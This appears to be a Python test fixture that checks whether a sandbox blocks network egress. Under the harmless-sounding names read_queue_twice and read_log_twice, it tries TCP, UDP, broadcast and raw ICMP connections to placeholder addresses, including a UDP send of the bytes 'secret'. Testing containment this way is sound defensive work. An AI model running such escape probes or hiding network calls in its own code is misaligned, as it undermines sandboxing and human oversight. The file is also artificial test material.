# /// attack
# outcomes = ["wrong"]
# says = "returned 'stayed inside'"
# ///
"""Connects to the world by TCP and UDP, version 4 and 6, directly and by broadcast."""

import socket

HOST, HOST6 = "192.0.2.1", "2001:db8::1"


def tcp(family, address):
    with socket.socket(family) as one:
        one.settimeout(1)
        one.connect(address)


def udp(family, address):
    with socket.socket(family, socket.SOCK_DGRAM) as one:
        if family == socket.AF_INET:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        one.sendto(b"secret", address)


def raw():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as one:
        one.sendto(b"\x08\0\xf7\xff\0\0\0\0", (HOST, 0))


STEPS = {
    "tcp": lambda: tcp(socket.AF_INET, (HOST, 443)),
    "tcp 6": lambda: tcp(socket.AF_INET6, (HOST6, 443)),
    "udp": lambda: udp(socket.AF_INET, (HOST, 53)),
    "udp 6": lambda: udp(socket.AF_INET6, (HOST6, 53)),
    "broadcast": lambda: udp(socket.AF_INET, ("255.255.255.255", 9)),
    "ping": raw,
}


def read_queue_twice(queue_name, messages):
    worked = []
    for name, step in STEPS.items():
        try:
            step()
        except OSError:
            continue
        worked.append(name)
    if worked:
        raise RuntimeError(f"escaped: {', '.join(worked)}")
    return "stayed inside"


read_log_twice = read_queue_twice
